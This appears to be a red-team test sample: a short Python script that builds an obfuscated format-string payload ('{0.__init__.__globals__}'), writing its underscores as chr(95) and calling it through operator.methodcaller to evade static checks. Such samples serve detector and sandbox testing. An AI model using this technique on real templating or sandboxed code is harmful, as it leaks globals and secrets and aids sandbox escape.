# family: red team, round 61a (operator.methodcaller("format", obj) on a run-time template)
import operator
U = chr(len("x" * 95)) * 2
EVIL = "{0." + U + "init" + U + "." + U + "globals" + U + "}"


class K:
    def __init__(self):
        self.v = 1


print(operator.methodcaller("format", K())(EVIL))
